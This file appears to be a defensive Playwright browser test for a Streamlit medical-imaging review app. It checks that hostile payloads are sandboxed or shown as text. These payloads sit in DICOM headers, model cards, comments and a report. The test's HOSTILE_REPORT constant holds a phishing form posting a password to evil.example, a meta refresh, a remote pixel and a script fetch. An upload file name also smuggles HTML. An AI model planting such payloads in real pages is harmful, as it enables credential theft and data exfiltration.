"""Issue 15 attacks repeated in Chromium against a real ``streamlit run app/main.py``.

An admin opens a case whose DICOM headers, stored AI result and review comment carry
Markdown/HTML payloads, and the Models page of a package whose model card and report are
hostile (a style sheet hiding the app, a sign-in form posting to another host, a remote
image, a meta refresh, Markdown images). Every request of every frame is recorded:

* nothing is fetched from, or sent to, another host; no injected element is in the page;
* the report is in a ``sandbox=""`` frame: its form cannot be submitted, its style does not
  reach the app (the sidebar stays visible);
* case images are inline ``data:`` PNGs, never ``/media/`` URLs;
* the reviews CSV is built on click; after sign-out, no ``/media/`` URL the browser used
  answers a plain request without a cookie.
"""

from __future__ import annotations

import os
import urllib.error
import urllib.request
from pathlib import Path
from urllib.parse import urlparse

import pytest

from medtl.artifacts import PredictionDetails

from .helpers import (
    EVIL_HOST,
    HOSTILE,
    PASSWORD,
    cheap_hasher,
    hostile_dicom_bytes,
    make_package,
    serving_app,
    sign_in_browser,
)
from .test_browser import CHROMIUM, CHROMIUM_ARGS

pytestmark = pytest.mark.browser

HOSTILE_REPORT = (
    '<html><head><meta http-equiv="refresh" content="0; url=https://evil.example/refresh">'
    "<style>body{background:red} section,[data-testid=stSidebar]{display:none!important}"
    "</style></head><body>"
    '<div id="overlay" style="position:fixed;inset:0;background:white;z-index:99999">'
    '<form id="phish" action="https://evil.example/steal" method="post">'
    '<input name="password" value="secret"><button id="phish-go">Sign in</button></form>'
    '<img id="pixel" src="https://evil.example/pixel.png">'
    "<script>fetch('https://evil.example/script')</script>\n\n"
    "![md](//evil.example/md)\n</div></body></html>"
)


def _seed(tmp_path: Path) -> str:
    from medtl.io import load_scan
    from medtl.review import ReviewStore

    make_package(tmp_path / "pkg")
    make_package(
        tmp_path / "evil",
        name="zzhostile",  # listed last: the Models page opens it
        intended_use=HOSTILE["intended_use"],
        labels=["no nodule", HOSTILE["label"]],
        limitations=[HOSTILE["comment"]],
        report_html=HOSTILE_REPORT,
    )
    with ReviewStore.open(hasher=cheap_hasher()) as store:
        adam = store.accounts.add_user("adam", PASSWORD, "admin")
        case = store.create_case(adam, load_scan(hostile_dicom_bytes()))
        store.record_prediction(
            adam,
            case.case_id,
            model_name="tinycxr",
            model_version="1.0.0",
            label=HOSTILE["label"],
            probability=0.61,
            threshold=0.5,
            details=PredictionDetails(
                labels=["no nodule", HOSTILE["label"]],
                operating_point=HOSTILE["directive"],
                domain="warn",
                domain_reasons=[HOSTILE["modality"], HOSTILE["series"]],
            ),
        )
        store.submit_review(adam, case.case_id, "disagree", comment=HOSTILE["comment"])
        return case.case_id


@pytest.fixture
def hostile_server(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    if not CHROMIUM.is_file():
        pytest.skip("/usr/bin/chromium is missing (make browser)")
    pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    home = tmp_path / "home"
    monkeypatch.setenv("MEDTL_HOME", str(home))
    monkeypatch.delenv("MEDTL_DATABASE_URL", raising=False)
    case_id = _seed(tmp_path)
    env = {**os.environ, "MEDTL_HOME": str(home), "MEDTL_APP_MAX_UPLOAD_MB": "20"}
    with serving_app(tmp_path, env) as url:
        yield url, case_id, tmp_path


def _status(url: str) -> int:
    try:
        with urllib.request.urlopen(url, timeout=10) as response:  # no cookie, no session
            return response.status
    except urllib.error.HTTPError as err:
        return err.code


def _no_injected_elements(page) -> None:
    injected = page.evaluate(
        """() => {
        const bad = [];
        for (const el of document.querySelectorAll('img, a, form, iframe, script, link')) {
          const url = el.getAttribute('src') || el.getAttribute('href')
                    || el.getAttribute('action') || '';
          if (/evil\\.example|^\\s*javascript:/i.test(url)) bad.push(el.outerHTML);
        }
        for (const el of document.querySelectorAll('iframe')) {
          const box = el.getAttribute('sandbox');
          if (box !== '') bad.push('open frame ' + el.outerHTML.slice(0, 80));
        }
        for (const el of document.querySelectorAll('#overlay, #phish, #pixel')) {
          bad.push('report element in the app: ' + el.id);
        }
        return bad;
    }"""
    )
    assert injected == []


def test_hostile_markup_and_media_in_chromium(hostile_server) -> None:
    from playwright.sync_api import expect, sync_playwright

    url, case_id, tmp = hostile_server
    requests: list[str] = []
    expect.set_options(timeout=60_000)
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            context = browser.new_context(viewport={"width": 1400, "height": 1000})
            context.on("request", lambda request: requests.append(request.url))
            page = context.new_page()
            page.set_default_timeout(60_000)
            page.goto(url)
            sign_in_browser(page, "adam", PASSWORD)
            expect(page.get_by_role("heading", name="Upload and analyse")).to_be_visible()

            # Upload a DICOM whose headers carry the payloads, under a hostile file name,
            # and analyse it with the hostile package (its labels are payloads too).
            upload = Path(tmp) / "![](x) <img src=y>.dcm"
            upload.write_bytes(hostile_dicom_bytes(seed=23))
            page.locator("input[type=file]").set_input_files(str(upload))
            expect(page.get_by_text("DICOM · 64 x 64")).to_be_visible()
            page.get_by_role("button", name="Analyse").click()
            expect(
                page.get_by_text("Analysis complete").or_(page.get_by_text("Not analysed")).first
            ).to_be_visible()  # a refused analysis shows both: its status and the refusal
            _no_injected_elements(page)

            page.get_by_role("link", name="Case review").click()
            expect(page.get_by_text(f"Case {case_id}")).to_be_visible()
            expect(page.locator("img.medtl-inline-image")).to_be_visible()
            src = page.locator("img.medtl-inline-image").get_attribute("src")
            assert src.startswith("data:image/png;base64,")
            assert page.get_by_test_id("stImage").count() == 0
            expect(page.get_by_text(HOSTILE["modality"]).first).to_be_visible()  # as text
            _no_injected_elements(page)

            page.get_by_role("link", name="Models and reports").click()
            expect(page.get_by_text(f"<form action=//{EVIL_HOST}/f>")).to_be_visible()  # text
            frame_el = page.locator("iframe.medtl-report-frame")
            expect(frame_el).to_be_visible()  # drawn after the card: the card is complete
            shown = page.locator("body").inner_text().replace("\u2060", "")
            assert HOSTILE["intended_use"] in shown and HOSTILE["comment"] in shown
            assert frame_el.get_attribute("sandbox") == ""
            frame = frame_el.content_frame
            expect(frame.locator("#phish-go")).to_be_attached()
            frame.locator("#phish-go").click(force=True, no_wait_after=True)  # sandbox: no submit
            page.wait_for_timeout(1500)
            expect(page.get_by_test_id("stSidebar")).to_be_visible()  # the style stayed inside
            _no_injected_elements(page)

            page.get_by_role("link", name="Admin").click()
            page.get_by_role("tab", name="Export").click()
            with page.expect_download() as info:
                page.get_by_role("button", name="Download reviews.csv").click()
            download = info.value
            body = Path(download.path()).read_text(encoding="utf-8")
            assert case_id in body and "disagree" in body

            page.get_by_role("button", name="Sign out").click()
            expect(page.get_by_role("button", name="Sign in")).to_be_visible()
            page.wait_for_timeout(1000)
            media = sorted({u for u in requests if urlparse(u).path.startswith("/media/")})
            assert media, "the CSV download went through a /media/ URL"
            for link in media:
                assert _status(link) == 404, link
        finally:
            browser.close()

    foreign = [u for u in requests if urlparse(u).scheme in ("http", "https", "ws", "wss")]
    foreign = [u for u in foreign if urlparse(u).hostname not in ("127.0.0.1", "localhost")]
    assert foreign == [], f"requests to other hosts: {foreign}"
    assert not [u for u in requests if EVIL_HOST in u]
    images = [u for u in requests if urlparse(u).path.startswith("/media/")]
    assert not [u for u in images if u.endswith((".png", ".jpg", ".jpeg", ".webp"))]
